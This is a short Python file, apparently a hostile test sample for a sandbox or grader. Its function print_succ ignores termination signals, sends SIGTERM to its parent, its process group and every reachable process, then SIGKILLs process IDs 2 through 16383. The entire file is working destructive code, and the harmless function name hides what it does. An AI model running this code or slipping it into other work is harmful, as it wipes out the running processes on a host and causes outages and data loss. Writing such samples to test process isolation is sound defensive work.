"""Hostile: kills its parent, its group, and everything it may."""

import os
import signal


def print_succ(state):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for attempt in (os.kill, os.getppid()), (os.killpg, 0), (os.kill, -1):
        try:
            attempt[0](attempt[1], signal.SIGTERM)
        except OSError:
            pass
    for number in range(2, 1 << 14):
        try:
            if number != os.getpid() and number != os.getppid():
                os.kill(number, signal.SIGKILL)
                print("done: killed", number)
        except OSError:
            pass
